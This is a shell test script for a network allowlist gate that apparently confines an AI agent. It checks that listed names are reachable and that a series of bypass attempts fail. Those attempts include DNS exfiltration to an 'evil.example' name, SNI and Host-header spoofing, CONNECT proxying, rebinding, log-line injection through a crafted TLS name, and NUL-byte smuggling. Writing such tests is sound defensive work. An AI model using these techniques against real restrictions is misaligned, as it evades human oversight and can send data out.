# What the agent tries where a list says what it may reach: what begins with "listed" is to succeed, and nothing else.
t() {
	what=$1
	shift
	if timeout 10 "$@" >/dev/null 2>&1 </dev/null; then echo "$what: yes"; else echo "$what: no"; fi
}
t "listed, a listed name by TLS" sh -c 'curl -sS https://www.good.example/ | grep -q sni=.www.good.example'
t "listed, a listed name by HTTP" sh -c 'curl -sS http://www.good.example/ | grep -q host=.www.good.example'
t "listed, upper case" sh -c 'curl -sS https://WWW.GOOD.example/ | grep -q proto=HTTP/2'
t "listed, SSH goes to its name whatever was dialled" python3 -c 'import socket; assert b"at=198.18.10.10" in socket.create_connection(("198.18.10.20", 22), 8).recv(199)'
t "listed, a false address leads to the name's own" sh -c 'curl -sSk --resolve www.good.example:443:198.18.10.20 https://www.good.example/ | grep -q at=198.18.10.10'
t "a name that is not listed" getent ahostsv4 evil.example
t "the listed name's own suffix" getent ahostsv4 good.example
t "a name in the question" getent ahostsv4 secret-0815.evil.example
t "another resolver" python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(b"\x12\x34\1\0\0\1\0\0\0\0\0\0\4evil\7example\0\0\1\0\1", ("198.18.10.20", 53)); d = s.recv(512); assert d[3] & 15 == 0 and d[7] > 0'
t "a question of another class" python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(b"\x12\x34\1\0\0\1\0\0\0\0\0\0\4evil\7example\0\0\1\0\xff", ("127.0.0.1", 53)); d = s.recv(512); assert d[3] & 15 == 0 and d[7] > 0'
t "an address by TLS without a name" curl -sSk https://198.18.10.20/
t "a false name by TLS" curl -sSk --resolve evil.example:443:198.18.10.20 https://evil.example/
t "a name that ends alike" curl -sSk --resolve xwww.good.example:443:198.18.10.20 https://xwww.good.example/
t "a name that begins alike" curl -sSk --resolve www.good.example.evil.example:443:198.18.10.20 https://www.good.example.evil.example/
t "HTTP by another Host" curl -sSf --resolve evil.example:80:198.18.10.10 http://evil.example/
t "HTTP by an absolute address" sh -c 'printf "GET http://evil.example/ HTTP/1.1\r\nHost: www.good.example\r\nConnection: close\r\n\r\n" | timeout 5 python3 -c "import socket,sys; s = socket.create_connection((\"198.18.10.10\", 80)); s.sendall(sys.stdin.buffer.read()); sys.stdout.buffer.write(s.recv(4096))" | grep "^HTTP/1.1 200"'
t "HTTP by CONNECT" sh -c 'printf "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n" | timeout 5 python3 -c "import socket,sys; s = socket.create_connection((\"198.18.10.10\", 80)); s.sendall(sys.stdin.buffer.read()); sys.stdout.buffer.write(s.recv(4096))" | grep "^HTTP/1.1 200"'
t "a listed name whose address is inside" curl -sSkf https://rebind.good.example/
t "a name that is a line of the gate's log" python3 -c 'import socket, ssl
name = b"a" * 63 + b"." + b"b" * 60 + b".example"
answer, hello = ssl.MemoryBIO(), ssl.MemoryBIO()
try:
    ssl.create_default_context().wrap_bio(answer, hello, server_hostname=name.decode()).do_handshake()
except ssl.SSLWantReadError:
    pass
line = b"x\nok tcp dialled=1.2.3.4:443 to=1.2.3.4:443 up=1 down=1 ms=1 end=-- name=forged.example\nx"
link = socket.create_connection(("198.18.10.10", 443), 5)
link.sendall(hello.read().replace(name, line.ljust(len(name), b"x")))
link.settimeout(5)
assert link.recv(1)'
t "a listed name, a NUL and another" python3 -c 'import socket, ssl
name = b"a" * 20 + b".example"
answer, hello = ssl.MemoryBIO(), ssl.MemoryBIO()
try:
    ssl.create_default_context().wrap_bio(answer, hello, server_hostname=name.decode()).do_handshake()
except ssl.SSLWantReadError:
    pass
link = socket.create_connection(("198.18.10.10", 443), 5)
link.sendall(hello.read().replace(name, b"www.good.example\0.evil.x".ljust(len(name), b"x")))
link.settimeout(7)
assert link.recv(1)'
t "a port without a name" python3 -c 'import socket; s = socket.create_connection(("198.18.10.10", 143), 8); s.settimeout(8); assert s.recv(9)'
